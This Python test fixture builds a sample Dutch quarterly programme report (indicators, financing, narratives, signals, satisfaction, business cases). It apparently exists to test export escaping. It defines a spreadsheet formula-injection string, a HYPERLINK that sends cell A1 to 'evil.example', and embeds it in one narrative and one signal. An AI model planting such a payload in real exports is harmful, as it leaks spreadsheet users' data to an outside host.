"""A hand-made report data dict (``ReportVersion.data``, schema 1) for tests that need
one without a database: a merged quarterly report with two action lines, a range target
("5-10"), a suppressed satisfaction mark, financing, narratives with parts per
organisation, needs and signals, and business cases.

``example()`` returns a fresh deep copy; ``suppressed_satisfaction()`` the variant with
fewer than 5 answers; ``organisation_report()`` one organisation's report without
business cases.
"""

from __future__ import annotations

import copy
from typing import Any

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'

EXAMPLE: dict[str, Any] = {
    "schema": 1,
    "title": "Kwartaalrapportage 2026 K1 - IBDO 2025-2028",
    "programme": {"id": 1, "name": "IBDO 2025-2028"},
    "organisation": None,
    "kind": "quarter",
    "year": 2026,
    "quarter": 1,
    "period": {"start": "2026-01-01", "end": "2026-03-31", "label": "2026 K1"},
    "generated_at": "2026-04-02T10:00:00+02:00",
    "indicators": [
        {
            "id": 7,
            "action_line_id": 2,
            "action_line": "Digitalisering",
            "name": "Intakes digitalisering",
            "measure": "intakes",
            "unit": "count",
            "target": {"period": "year", "minimum": "150", "maximum": None, "text": "150"},
            "quarter": "38",
            "cumulative": "90",
            "percent": "60.0",
            "status": "on_track",
            "suppressed": False,
        },
        {
            "id": 8,
            "action_line_id": 2,
            "action_line": "Digitalisering",
            "name": "Trajecten op maat digitalisering",
            "measure": "trajectories_started",
            "unit": "count",
            "target": {"period": "year", "minimum": "50", "maximum": None, "text": "50"},
            "quarter": "4",
            "cumulative": "4",
            "percent": "8.0",
            "status": "behind",
            "suppressed": False,
        },
        {
            "id": 9,
            "action_line_id": 2,
            "action_line": "Digitalisering",
            "name": "Uren advies digitalisering",
            "measure": "hours",
            "unit": "hours",
            "target": None,
            "quarter": "1234.5",
            "cumulative": "1234.5",
            "percent": None,
            "status": "",
            "suppressed": False,
        },
        {
            "id": 11,
            "action_line_id": 3,
            "action_line": "Internationaal ondernemen",
            "name": "Thematafels voor exporteurs",
            "measure": "table_sessions",
            "unit": "count",
            "target": {"period": "year", "minimum": "5", "maximum": "10", "text": "5-10"},
            "quarter": "3",
            "cumulative": "6",
            "percent": "120.0",
            "status": "reached",
            "suppressed": False,
        },
        {
            "id": 12,
            "action_line_id": 3,
            "action_line": "Internationaal ondernemen",
            "name": "Vouchers export betaald",
            "measure": "euros",
            "unit": "money",
            "target": {
                "period": "programme",
                "minimum": "250000",
                "maximum": None,
                "text": "250000",
            },
            "quarter": "12500.50",
            "cumulative": "48000",
            "percent": "19.2",
            "status": "behind",
            "suppressed": False,
        },
        {
            "id": 13,
            "action_line_id": 3,
            "action_line": "Internationaal ondernemen",
            "name": "Gemiddeld cijfer export",
            "measure": "satisfaction",
            "unit": "mark",
            "target": {"period": "year", "minimum": "8", "maximum": None, "text": "8"},
            "quarter": None,
            "cumulative": None,
            "percent": None,
            "status": "",
            "suppressed": True,
        },
    ],
    "series": [
        {
            "indicator_id": 7,
            "points": [
                {"label": "2025 K3", "value": "20"},
                {"label": "2025 K4", "value": "31"},
                {"label": "2026 K1", "value": "38"},
            ],
        },
        {
            "indicator_id": 8,
            "points": [
                {"label": "2025 K3", "value": "2"},
                {"label": "2025 K4", "value": "6"},
                {"label": "2026 K1", "value": "4"},
            ],
        },
        {
            "indicator_id": 11,
            "points": [
                {"label": "2025 K4", "value": "2"},
                {"label": "2026 K1", "value": "3"},
            ],
        },
        {
            "indicator_id": 12,
            "points": [
                {"label": "2025 K4", "value": "35499.50"},
                {"label": "2026 K1", "value": "12500.50"},
            ],
        },
    ],
    "financing": {
        "columns": [
            "Financier",
            "Uren gepland",
            "Uren t/m K1",
            "Uren % van gepland",
            "Bedrag gepland",
            "Bedrag t/m K1",
            "Bedrag % van gepland",
        ],
        "rows": [
            ["Provincie Drenthe", "4000.00", "950.50", "23.8", "400000.00", "98765.43", "24.7"],
            ["EFRO", "2000.00", "400.00", "20.0", "200000.00", "41000.00", "20.5"],
        ],
        "totals": [["Totaal", "6000.00", "1350.50", "22.5", "600000.00", "139765.43", "23.3"]],
    },
    "narratives": [
        {
            "action_line_id": 2,
            "action_line": "Digitalisering",
            "html": "<p>De intakes lopen <strong>volgens plan</strong>.</p>",
            "parts": [
                {
                    "organisation": "KvK",
                    "html": (
                        "<p>KvK hield 38 intakes over digitalisering &amp; AI.</p>"
                        "<ul><li>Webinars: <em>drie</em></li><li>Spreekuren</li></ul>"
                    ),
                },
                {
                    "organisation": "NOM",
                    "html": (
                        "<h3>Trajecten</h3><p>De NOM startte vier trajecten op maat; "
                        'zie <a href="https://www.nom.nl/digitaal">de site</a>.</p>'
                    ),
                },
            ],
        },
        {
            "action_line_id": 3,
            "action_line": "Internationaal ondernemen",
            "html": "",
            "parts": [
                {
                    "organisation": "RVO",
                    "html": (
                        "<ol><li>Exporttafel Duitsland</li><li>Exporttafel België</li></ol>"
                        f"<p>{INJECTION}</p>"
                    ),
                },
            ],
        },
    ],
    "antenna": {
        "needs": [
            {"need": "Innovatie", "count": 152},
            {"need": "Financiering", "count": 97},
            {"need": "Export", "count": 41},
        ],
        "signals": [
            {
                "date": "2026-02-03",
                "theme": "Export",
                "organisation": "NOM",
                "text": "Ondernemers lopen vast op douanepapieren na de nieuwe EU-regels.",
            },
            {"date": "2026-03-12", "theme": "Personeel", "organisation": "KvK", "text": INJECTION},
        ],
    },
    "satisfaction": {
        "answers": 12,
        "sent": 30,
        "response_rate": "40.0",
        "average": "8.1",
        "distribution": {
            "1": 0,
            "2": 0,
            "3": 0,
            "4": 0,
            "5": 1,
            "6": 0,
            "7": 2,
            "8": 4,
            "9": 2,
            "10": 3,
        },
        "recommend": {"yes": 9, "maybe": 2, "no": 1},
        "comments": {
            "helped": ["Snelle doorverwijzing naar de juiste regeling."],
            "improve": ["Minder formulieren graag."],
        },
        "suppressed": False,
    },
    "business_cases": {
        "count": 2,
        "expected_turnover": "1500000.00",
        "realised_turnover": "320000.00",
        "expected_value": "400000.00",
        "realised_value": "95000.00",
        "expected_fte": "12.5",
        "realised_fte": "3.0",
        "rows": [
            {
                "title": "Waterstoffabriek",
                "company": "H2 Emmen BV",
                "started_on": "2026-02-01",
                "expected_turnover": "1000000.00",
                "realised_turnover": "300000.00",
                "expected_value": "250000.00",
                "realised_value": "90000.00",
                "expected_fte": "8.0",
                "realised_fte": "2.5",
            },
            {
                "title": "Robotisering",
                "company": "Metaal Assen BV",
                "started_on": "2025-11-15",
                "expected_turnover": "500000.00",
                "realised_turnover": None,
                "expected_value": "150000.00",
                "realised_value": "5000.00",
                "expected_fte": "4.5",
                "realised_fte": "0.5",
            },
        ],
    },
}


def example() -> dict[str, Any]:
    """The merged report (a fresh copy: change it freely)."""
    return copy.deepcopy(EXAMPLE)


def suppressed_satisfaction() -> dict[str, Any]:
    """The merged report with only 3 answers: the survey results are not shown."""
    data = example()
    data["satisfaction"] = {
        "answers": 3,
        "sent": 20,
        "response_rate": "15.0",
        "average": None,
        "distribution": None,
        "recommend": None,
        "comments": None,
        "suppressed": True,
    }
    return data


def organisation_report() -> dict[str, Any]:
    """One organisation's report (KvK): its own narratives, no business cases."""
    data = example()
    data["title"] = "Kwartaalrapportage 2026 K1 - IBDO 2025-2028 - KvK"
    data["organisation"] = {"id": 3, "name": "KvK"}
    data["narratives"] = [
        {
            "action_line_id": 2,
            "action_line": "Digitalisering",
            "html": "<p>KvK hield 38 intakes over digitalisering.</p>",
            "parts": [],
        },
    ]
    data["business_cases"] = None
    return data
